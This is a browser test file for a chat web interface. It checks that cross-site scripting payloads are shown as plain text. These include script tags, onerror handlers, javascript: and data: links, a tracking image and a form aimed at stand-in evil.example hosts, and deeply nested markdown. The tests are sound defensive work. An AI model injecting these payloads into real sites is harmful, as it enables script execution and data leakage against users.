"""Nothing that a model or a person writes becomes markup, script or a request."""

import pytest
from playwright.async_api import expect

from tests.adapters.web.page.screen import Screen

pytestmark = [pytest.mark.browser, pytest.mark.asyncio(loop_scope="session")]

ATTACKS = [
    "<script>document.title='owned'</script>",
    "<img src=x onerror=\"document.title='owned'\">",
    "<svg onload=\"document.title='owned'\"><circle/></svg>",
    "<iframe src=\"javascript:parent.document.title='owned'\"></iframe>",
    "<a href=\"javascript:document.title='owned'\">click</a>",
    "[click](javascript:document.title='owned')",
    "[click](JaVaScRiPt:document.title='owned')",
    "[click](java\tscript:document.title='owned')",
    "[click](&#106;avascript:document.title='owned')",
    "[click](data:text/html,<script>parent.document.title='owned'</script>)",
    "[click](vbscript:document.title)",
    "<javascript:document.title='owned'>",
    "![picture](http://tracker.example/pixel.png?secret)",
    "![picture](javascript:document.title='owned')",
    "[ref]: javascript:document.title='owned'\n\n[ref]",
    "```html\n<script>document.title='owned'</script>\n```",
    "```<img src=x onerror=document.title='owned'>\nx\n```",
    "`<img src=x onerror=document.title='owned'>`",
    "&lt;script&gt;document.title='owned'&lt;/script&gt;",
    "| <img src=x onerror=document.title='owned'> |\n|-|\n| <script>document.title='owned'</script> |",
    "<style>*{display:none}</style><form action=http://evil.example><button>go</button></form>",
    "<base href=http://evil.example><link rel=stylesheet href=http://evil.example/x.css>",
    "- [x] <input autofocus onfocus=document.title='owned'>",
    "http://evil.example/\"onmouseover=\"document.title='owned'",
    "\x00<script>\x00document.title='owned'</script>",
]
MARKS = (
    "script, iframe, object, embed, svg, img, style, link, base, form, [onerror], [onload], [onfocus], [onmouseover]"
)


async def test_attacks_are_shown_as_they_were_written(screen: Screen) -> None:
    screen.house.model.says("\n\n".join(ATTACKS))
    screen.house.model.pace = 0.0005
    await screen.asks("\n".join(ATTACKS).replace("\x00", ""))
    await screen.sees_the_end()
    transcript = screen.page.locator("#transcript")
    assert await transcript.locator(MARKS).count() == 0
    for link in await transcript.locator("a").all():
        assert str(await link.get_attribute("href")).startswith(("http://", "https://", "mailto:"))
        assert await link.get_attribute("rel") == "noopener noreferrer nofollow"
    for click in await transcript.get_by_text("click").all():
        await click.click()
    await expect(screen.page).to_have_title("Code Supporter")
    await expect(screen.answer).to_contain_text("<script>document.title='owned'</script>")
    await screen.page.reload()
    await screen.sees("click")
    assert await transcript.locator(MARKS).count() == 0


HARD = {
    "backticks": "`" * 50_000,
    "quotes": "> " * 20_000 + "deep",
    "quotes just bearable": "> " * 99 + "deep",
    "brackets": "[" * 20_000,
    "stars": "*a" * 20_000,
    "lists": "".join(f"{'  ' * n}- {n}\n" for n in range(300)),
    "lists just bearable": "".join(f"{'  ' * n}- {n}\n" for n in range(99)),
    "one line": "word " * 40_000,
    "bidi": "\u202egnp.exe\u202c \u2066left\u2069 \u0627\u0644\u0639",
    "no text": "\u200b\ufeff",
    "carriage returns": "a\r\n\r\n```\r\nb\r\n```\r\nc",
}


async def test_texts_that_are_hard_to_read_are_shown_in_time(screen: Screen) -> None:
    for name, text in HARD.items():
        screen.house.model.says(text)
        await screen.asks(name)
        await screen.sees_the_end()
        assert await screen.answer.text_content(), name
        await screen.button("New conversation").click()


async def test_half_a_character_in_a_question_hurts_nobody(screen: Screen) -> None:
    await screen.question.evaluate("area => { area.value = 'lone \\ud83d surrogate' }")
    await screen.question.press("Enter")
    await screen.sees_the_end()
    assert screen.house.model.asked[-1].text == "lone \ufffd surrogate"
